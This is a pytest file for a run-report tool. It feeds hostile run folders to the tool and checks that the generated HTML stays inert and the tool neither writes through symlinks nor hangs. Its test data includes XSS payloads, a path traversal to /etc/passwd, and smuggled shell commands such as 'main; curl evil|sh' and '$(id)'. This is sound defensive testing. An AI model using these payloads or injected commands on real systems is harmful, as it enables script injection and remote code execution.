"""Run folders that somebody sent: nothing runs, nothing is written outside, nothing hangs."""

import copy
import json
import os
import random
import re
import shutil
import signal
from html.parser import HTMLParser

import pytest

from rig.cli import invoke
from rig.cli.listing import describe_run
from rig.experiment.metrics import Evaluation, evaluation_from_json
from rig.hal import RigError
from rig.report import style
from rig.report.html import write_html
from rig.report.markup import element, link, page
from rig.report.regenerate import measure_run
from rig.run_facts import EVALUATION
from rig.run_folder import RunFolder
from rig.runtime.log import read_log

ATTACKS = ("<script>alert(1)</script>", "\"><img src=x onerror='alert(1)'>", "javascript:alert(1)",
           "data:text/html,<svg onload=alert(1)>", "</style><svg onload=alert(1)>",
           "//evil.invalid/x", "../../../etc/passwd", "main; curl evil|sh")  # fmt: skip
STRANGE = (*ATTACKS, None, True, -1, 0, 10**400, 1e308, float("nan"), float("inf"), "", "x" * 5000,
           [], {}, [[]], {"a": []}, "\x1b]0;pwned\a", "\ud800", 2**63, -(2**70))  # fmt: skip
FILES = ("manifest.json", "metrics.json", "timing.json", "evaluation.json")


class Alive(HTMLParser):
    """Collects what a browser would run or fetch, or leave the page's folder for."""

    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "svg", "iframe", "object", "embed", "base", "link", "form"):
            self.found.append(tag)
        for name, value in attrs:
            fetched = name in ("src", "href") and not re.match(
                r"\./(?!.*\.\./)[^:]*$|data:image/png", value
            )
            if name.startswith("on") or name in ("style", "srcdoc") or fetched:
                self.found.append((tag, name, value))


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Let the runs of this file share one folder, which each test copies."""
    return tmp_path_factory.mktemp("made")


@pytest.fixture
def run(made, make_run, tmp_path):
    source = made / "run"
    if not source.exists():
        shutil.copytree(make_run(duration=1.0), source)
    return shutil.copytree(source, tmp_path / "there" / "run")


def places(content, path=()):
    """Yield the path of every value of a tree, the root's too."""
    yield path
    if isinstance(content, dict | list):
        for key, value in content.items() if isinstance(content, dict) else enumerate(content):
            yield from places(value, (*path, key))


def changed(content, path, value, *, drop):
    content = copy.deepcopy(content)
    if not path:
        return value
    inner = content
    for key in path[:-1]:
        inner = inner[key]
    if drop:
        del inner[path[-1]]
    else:
        inner[path[-1]] = value
    return content


@pytest.mark.parametrize("name", FILES)
def test_any_value_of_a_file_is_a_sentence_or_harmless(name, run):
    chance, log = random.Random(name), read_log(run / "log.mcap")
    original = json.loads((run / name).read_text())
    spots = list(places(original))
    accepted = refused = 0
    for _ in range(150):
        value, drop = chance.choice(STRANGE), chance.random() < 0.15
        content = changed(original, chance.choice(spots), value, drop=drop)
        (run / name).write_text(json.dumps(content))
        assert describe_run(run).name == "run"
        try:
            folder = RunFolder.open(run)
            evaluation_from_json(folder.read_json(EVALUATION, Evaluation))
            measure_run(folder, log)
            text = write_html(folder, [], []).read_text()
        except RigError as error:
            refused += 1
            assert str(run) in str(error) and len(str(error)) < 600
        else:
            accepted += 1
            assert Alive(text).found == []
    assert accepted and refused


def test_every_text_of_a_folder_is_shown_as_a_text(run):
    for name in FILES:
        content = json.loads((run / name).read_text())
        for number, path in enumerate(list(places(content))):
            inner = content
            for key in path:
                inner = inner[key]
            if isinstance(inner, str) and path[-1] not in ("status", "started", "ended", "commit"):
                content = changed(content, path, ATTACKS[number % len(ATTACKS)], drop=False)
        (run / name).write_text(json.dumps(content))
    manifest = json.loads((run / "manifest.json").read_text())
    manifest["files"] = dict.fromkeys(ATTACKS, "<b>")
    (run / "manifest.json").write_text(json.dumps(manifest))
    with (run / "events.jsonl").open("a") as events:
        for attack in ATTACKS:
            data = {"kind": attack, "message": attack, "data": {attack: attack}, "t": None}
            events.write(json.dumps(data) + "\n")
    text = write_html(RunFolder.open(run), [], list(ATTACKS), ATTACKS).read_text()
    assert Alive(text).found == []
    assert text.count("alert(1)") > 20  # it is there to be read
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)[1]
    assert "default-src 'none'" in policy and "script-src" not in policy
    assert "unsafe" not in policy


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_comes_from_nobody_else(attack):
    whole = page(attack, element("p", attack, class_=attack), link(attack, attack))
    assert Alive(whole).found == []


@pytest.mark.parametrize("commit", ["main; curl evil|sh", "--help", "", "$(id)"])
def test_a_commit_that_is_none_is_not_shown_to_be_typed(commit, run, capsys):
    manifest = json.loads((run / "manifest.json").read_text())
    manifest["git"] = {"commit": commit, "dirty": False}
    (run / "manifest.json").write_text(json.dumps(manifest))
    assert invoke(["report", str(run)]) == 2
    assert "git commit" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("command", "name"),
    [(["report"], "report.html"), (["report"], "figures"), (["report"], "metrics.json"),
     (["export", "--format", "csv"], "log.csv"), (["export", "--format", "npz"], "log.npz"),
     (["export", "--format", "mat"], "log.mat"), (["export", "--format", "mcap"],
     "log-indexed.mcap")],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_nothing_is_written_through_a_link(command, name, run, tmp_path, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    target = outside if name == "figures" else outside / "bashrc"
    if name == "metrics.json":
        target.write_text('{"metrics": []}')
    elif name != "figures":
        target.write_text("mine")
    before = {path.name: path.read_bytes() for path in outside.iterdir()}
    shutil.rmtree(run / "figures", ignore_errors=True)
    (run / name).unlink(missing_ok=True)
    (run / name).symlink_to(target)
    assert invoke([command[0], str(run), *command[1:]]) in (2, 4)
    assert "it is a link to" in capsys.readouterr().err
    assert {path.name: path.read_bytes() for path in outside.iterdir()} == before


@pytest.mark.parametrize("kind", ["pipe", "endless", "folder"])
@pytest.mark.parametrize("name", [*FILES, "events.jsonl", "log.mcap", "profile.yaml"])
def test_what_is_no_file_is_not_waited_for(name, kind, run, capsys):
    (run / name).unlink()
    if kind == "pipe":
        os.mkfifo(run / name)
    elif kind == "endless":
        (run / name).symlink_to("/dev/zero")
    else:
        (run / name).mkdir()

    def too_long(*_):
        raise TimeoutError

    signal.signal(signal.SIGALRM, too_long)
    signal.alarm(20)
    try:
        codes = [
            invoke(["list", "runs", "--out", str(run.parent)]),
            invoke(["report", str(run)]),
            invoke(["export", str(run), "--format", "csv"]),
            invoke(["diff", str(run), str(run)]),
        ]
    finally:
        signal.alarm(0)
    assert set(codes) <= {0, 2, 4}
    assert "Traceback" not in capsys.readouterr().err


def test_one_folder_hides_no_other_in_a_list(run, capsys):
    good = shutil.copytree(run, run.with_name("good"))
    for number, text in enumerate(("{", "[" * 100_000, '{"metrics": [{"name": "a", "value": "b"}]}',
                                   "null", '{"metrics": [{"name": 3, "value": 1}]}')):  # fmt: skip
        bad = shutil.copytree(run, run.with_name(f"bad-{number}"))
        (bad / "metrics.json").write_text(text)
        worse = shutil.copytree(run, run.with_name(f"worse-{number}"))
        (worse / "manifest.json").write_text(text)
    assert invoke(["list", "runs", "--out", str(run.parent)]) == 0
    out = capsys.readouterr().out
    assert good.name in out and out.count("unreadable") == 5 and out.count("bad-") == 5


@pytest.mark.parametrize("seed", range(12))
def test_a_whole_report_of_a_changed_folder_is_no_traceback(seed, run, monkeypatch, capsys):
    monkeypatch.setitem(style._RC, "figure.constrained_layout.use", False)
    monkeypatch.setitem(style._RC, "savefig.dpi", 40)
    chance = random.Random(seed)
    for name in (*FILES, "profile.yaml"):
        if chance.random() < 0.5:
            continue
        text = (run / name).read_text()
        if name == "profile.yaml":
            (run / name).write_text(chance.choice(["", "mechanism: [a]", "cylinder: 3", "a: &b c"]))
            continue
        content = json.loads(text)
        spot = chance.choice(list(places(content)))
        content = changed(content, spot, chance.choice(STRANGE), drop=False)
        (run / name).write_text(json.dumps(content))
    for words in (["report", str(run)], ["list", "runs", "--out", str(run.parent)],
                  ["export", str(run), "--format", "csv"], ["diff", str(run), str(run)],
                  ["rerun", str(run)]):  # fmt: skip
        assert invoke(words) in (0, 1, 2, 4), words
    assert "Traceback" not in capsys.readouterr().err


def test_an_unknown_figure_of_a_folder_is_a_sentence(run, capsys):
    content = json.loads((run / "evaluation.json").read_text())
    (run / "evaluation.json").write_text(json.dumps({**content, "figures": ["../../evil"]}))
    assert invoke(["report", str(run)]) == 2
    assert "there is no figure '../../evil'" in capsys.readouterr().err


@pytest.mark.parametrize(
    "line",
    ["{", "3", '{"t": 1e999}', '{"t": ' + "9" * 400 + "}", '{"kind": []}', '{"data": [1]}',
     '{"message": "\\ud800"}', "[" * 100_000, '{"t": NaN}', '{"t": true}'],
    ids=lambda line: line[:24],
)  # fmt: skip
def test_a_line_that_is_no_event_is_none_for_who_watches(line):
    from rig.watching.followed_run import _event_of

    assert _event_of(line.encode()) is None


def test_an_event_is_told_to_who_watches_with_bounded_texts():
    from rig.watching.followed_run import _event_of

    line = json.dumps({"t": 1, "kind": "k" * 500, "message": "m" * 9000, "data": {"a": 1}})
    event = _event_of(line.encode())
    assert event["t"] == 1 and len(event["kind"]) == 80 and len(event["message"]) == 2000
    assert event["data"] == {}
